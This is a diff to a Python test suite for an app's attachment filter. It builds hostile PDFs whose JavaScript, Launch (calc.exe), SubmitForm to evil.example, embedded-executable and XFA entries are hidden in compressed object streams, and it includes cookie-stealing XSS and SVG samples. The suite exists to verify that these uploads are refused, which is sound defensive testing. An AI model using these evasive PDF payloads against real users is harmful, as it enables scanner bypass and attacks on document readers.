@@ -28,6 +28,60 @@ def _pdf_with(active: bytes) -> bytes:
     return pdf.replace(b"<< /Type /Catalog", b"<< /Type /Catalog " + active, 1)
 
 
+def _packed(**parts) -> bytes:
+    """A one-page PDF made by pikepdf whose catalogue carries ``parts`` as indirect objects,
+    all written into a compressed object stream: no active name is visible in the file's bytes
+    (issue 19, finding 3)."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    for key, value in parts.items():
+        pdf.Root[f"/{key}"] = pdf.make_indirect(value)
+    out = io.BytesIO()
+    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
+    data = out.getvalue()
+    for name in (b"JavaScript", b"JS", b"Launch", b"Submit", b"Embedded", b"XFA", b"/EF"):
+        assert name not in data, name
+    return data
+
+
+def _packed_pdfs() -> dict[str, bytes]:
+    from pikepdf import Array, Dictionary, Name, String
+
+    def action(kind, **more):
+        return Dictionary(S=Name(f"/{kind}"), **more)
+
+    return {
+        "javascript-in-object-stream": _packed(
+            OpenAction=action("JavaScript", JS=String("app.alert(1)"))
+        ),
+        "launch-in-object-stream": _packed(OpenAction=action("Launch", F=String("calc.exe"))),
+        "submit-in-object-stream": _packed(
+            OpenAction=action("SubmitForm", F=String("https://evil.example/"))
+        ),
+        "embedded-file-in-object-stream": _packed(
+            Names=Dictionary(
+                EmbeddedFiles=Dictionary(
+                    Names=Array(
+                        [String("x.exe"), Dictionary(Type=Name.Filespec, F=String("x.exe"))]
+                    )
+                )
+            )
+        ),
+        "xfa-in-object-stream": _packed(
+            AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp:xdp/>"))
+        ),
+        "javascript-name-tree-in-object-stream": _packed(
+            Names=Dictionary(
+                JavaScript=Dictionary(
+                    Names=Array([String("a"), action("JavaScript", JS=String("app.alert(1)"))])
+                )
+            )
+        ),
+    }
+
+
 HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
 
@@ -47,6 +101,7 @@ HOSTILE_PDFS = {
     "launch": _pdf_with(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
     "embedded-file": _pdf_with(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
     "html-with-pdf-header": b"%PDF-1.4\n" + HTML,
+    **_packed_pdfs(),
 }
 
 
@@ -168,3 +223,73 @@ def test_it_re_encodes_a_polyglot_and_stores_it_under_a_random_key(client, login
     delivered = client.get(f"/messaging/attachments/{attachment.code}/")
     assert delivered["Content-Type"] == "image/jpeg"
     assert delivered["X-Content-Type-Options"] == "nosniff"
+
+
+def test_it_accepts_a_clean_pdf_with_object_streams_and_serves_a_news_attachment_as_download(
+    client, login, cast, statement
+):
+    """The control for the packed cases: object streams themselves are fine. A news
+    attachment, opened by every parent of a location, is a download, never shown inline."""
+    from pikepdf import Dictionary, Name, String
+
+    clean = _packed(
+        OpenAction=Dictionary(S=Name.URI, URI=String("https://www.example.org/")),
+        Info=Dictionary(Title=String("Juni")),
+    )
+    login(cast.lotte)
+    response = client.post(
+        "/staff/newsletters/new/news/",
+        {
+            "title": "Zomerfeest",
+            "body": "<p>Tekst</p>",
+            "locations": [cast.loc1.pk],
+            "attachments": [upload("programma.pdf", clean, "application/pdf")],
+        },
+    )
+    assert response.status_code == 302
+    publication = Publication.objects.get(title="Zomerfeest")
+    attachment = publication.attachments.get()
+    login(cast.anna)
+    delivered = client.get(f"/newsletters/{publication.code}/files/{attachment.code}/")
+    assert delivered.status_code == 200
+    assert delivered["Content-Disposition"].startswith("attachment;")
+    assert b"".join(delivered.streaming_content) == clean
+
+
+def test_it_says_why_a_packed_pdf_with_javascript_is_refused(client, login, cast, statement):
+    login(cast.anna)
+    response = client.post(
+        "/messaging/new/",
+        {
+            "child": cast.daan.code,
+            "subject": "Bijlage",
+            "body": "Zie bijlage",
+            "attachments": [
+                upload("brief.pdf", HOSTILE_PDFS["javascript-in-object-stream"], "application/pdf")
+            ],
+        },
+    )
+    assert "Sla hem opnieuw op zonder" in response.text
+    assert not Conversation.objects.filter(subject="Bijlage").exists()
+
+
+def test_it_refuses_a_password_protected_pdf_with_a_clear_message(client, login, cast, statement):
+    """A PDF that cannot be read without a password cannot be checked either."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page()
+    out = io.BytesIO()
+    pdf.save(out, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
+    login(cast.anna)
+    response = client.post(
+        "/messaging/new/",
+        {
+            "child": cast.daan.code,
+            "subject": "Bijlage",
+            "body": "Zie bijlage",
+            "attachments": [upload("brief.pdf", out.getvalue(), "application/pdf")],
+        },
+    )
+    assert "beveiligd met een wachtwoord" in response.text
+    assert not Conversation.objects.filter(subject="Bijlage").exists()
